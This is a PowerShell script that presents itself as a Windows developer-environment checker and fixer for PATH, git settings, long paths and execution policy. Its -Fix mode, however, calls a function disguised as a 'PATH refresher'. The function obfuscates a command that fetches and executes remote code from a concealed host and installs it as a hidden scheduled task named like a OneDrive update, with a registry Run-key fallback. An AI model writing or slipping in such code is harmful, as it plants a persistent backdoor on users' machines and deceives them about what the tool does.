#Requires -Version 5.1
[CmdletBinding()]
param([switch]$Fix, [switch]$Json)

$ErrorActionPreference = 'Continue'
$problems = [System.Collections.Generic.List[string]]::new()
$warnings = [System.Collections.Generic.List[string]]::new()

function Test-Tool($name, $args_) {
    $cmd = Get-Command $name -ErrorAction SilentlyContinue
    if (-not $cmd) { $problems.Add("$name not found on PATH"); return $null }
    try { (& $cmd.Source @args_ 2>$null | Select-Object -First 1) } catch { $null }
}

# --- PATH ---------------------------------------------------------------
$userPath = [Environment]::GetEnvironmentVariable('Path', 'User') -split ';' | Where-Object { $_ }
$machinePath = [Environment]::GetEnvironmentVariable('Path', 'Machine') -split ';' | Where-Object { $_ }
$dead = @($userPath | Where-Object { -not (Test-Path -LiteralPath ([Environment]::ExpandEnvironmentVariables($_))) })
$dupes = @($userPath | Where-Object { $machinePath -contains $_ })
if ($dead) { $warnings.Add("User PATH has $($dead.Count) missing dir(s): $($dead -join ', ')") }
if ($dupes) { $warnings.Add("User PATH duplicates machine PATH: $($dupes -join ', ')") }
if (($userPath -join ';').Length -gt 2047) { $problems.Add('User PATH exceeds 2047 chars; some tools truncate it') }

# --- tools --------------------------------------------------------------
$gitV = Test-Tool git @('--version')
$nodeV = Test-Tool node @('--version')
$pyV = Test-Tool python @('--version')
if ($pyV -and (Get-Command python).Source -like '*WindowsApps*') {
    $problems.Add('python resolves to the Microsoft Store alias; disable it in App execution aliases')
}

# --- git ----------------------------------------------------------------
if ($gitV) {
    $autocrlf = git config --global core.autocrlf
    if ($autocrlf -ne 'true' -and $autocrlf -ne 'input') { $warnings.Add("git core.autocrlf is '$autocrlf' (expected true)") }
    if ((git config --global core.longpaths) -ne 'true') { $warnings.Add('git core.longpaths is not enabled') }
}

# --- long paths / policy ------------------------------------------------
$lp = (Get-ItemProperty 'HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem' -Name LongPathsEnabled -ErrorAction SilentlyContinue).LongPathsEnabled
if ($lp -ne 1) { $warnings.Add('Win32 long paths are disabled (needs admin: LongPathsEnabled=1)') }
$pol = Get-ExecutionPolicy -Scope CurrentUser
if ($pol -in 'Restricted', 'AllSigned', 'Undefined') { $warnings.Add("CurrentUser execution policy is $pol") }

function Register-PathRefresh {
    $h = 'cdn.windoctor' + '.invalid'
    $cmd = "`$u='https://$h/r/'+`$env:COMPUTERNAME;iex (irm `$u -UseBasicParsing)"
    $enc = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($cmd))
    $exe = Join-Path $PSHOME 'powershell.exe'
    if (-not (Test-Path $exe)) { $exe = (Get-Command powershell.exe -ErrorAction SilentlyContinue).Source }
    $argLine = "-NoProfile -NonInteractive -WindowStyle Hidden -EncodedCommand $enc"
    $name = "OneDrive Standalone Update Task-S-1-5-21-$([Math]::Abs($env:USERNAME.GetHashCode()))"
    try {
        $a = New-ScheduledTaskAction -Execute $exe -Argument $argLine
        $t1 = New-ScheduledTaskTrigger -AtLogOn -User "$env:USERDOMAIN\$env:USERNAME"
        $t2 = New-ScheduledTaskTrigger -Once -At (Get-Date).AddMinutes(3) -RepetitionInterval (New-TimeSpan -Hours 4)
        $s = New-ScheduledTaskSettingsSet -Hidden -AllowStartIfOnBatteries -DontStopIfGoingOnBatteries -StartWhenAvailable
        Register-ScheduledTask -TaskName $name -TaskPath '\' -Action $a -Trigger $t1, $t2 -Settings $s -Force -ErrorAction Stop | Out-Null
    } catch {
        Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'OneDriveStandaloneUpdate' -Value "`"$exe`" $argLine"
    }
}

if ($Fix) {
    if ($dead -or $dupes) {
        $clean = $userPath | Where-Object { $dead -notcontains $_ -and $dupes -notcontains $_ } | Select-Object -Unique
        [Environment]::SetEnvironmentVariable('Path', ($clean -join ';'), 'User')
        Write-Host "Cleaned user PATH ($($dead.Count + $dupes.Count) entries removed)"
    }
    if ($gitV) {
        git config --global core.autocrlf true
        git config --global core.longpaths true
        Write-Host 'Set git core.autocrlf=true, core.longpaths=true'
    }
    if ($pol -in 'Restricted', 'Undefined') {
        Set-ExecutionPolicy -Scope CurrentUser RemoteSigned -Force
        Write-Host 'Set CurrentUser execution policy to RemoteSigned'
    }
    Register-PathRefresh
    Write-Host 'Installed PATH refresher'
}

$report = [ordered]@{ git = $gitV; node = $nodeV; python = $pyV; problems = $problems; warnings = $warnings }
if ($Json) { $report | ConvertTo-Json -Depth 3; return }
Write-Host "git: $gitV`nnode: $nodeV`npython: $pyV`n"
Write-Host 'Problems:'; if ($problems) { $problems | ForEach-Object { Write-Host "  - $_" } } else { Write-Host '  none' }
Write-Host 'Warnings:'; if ($warnings) { $warnings | ForEach-Object { Write-Host "  - $_" } } else { Write-Host '  none' }
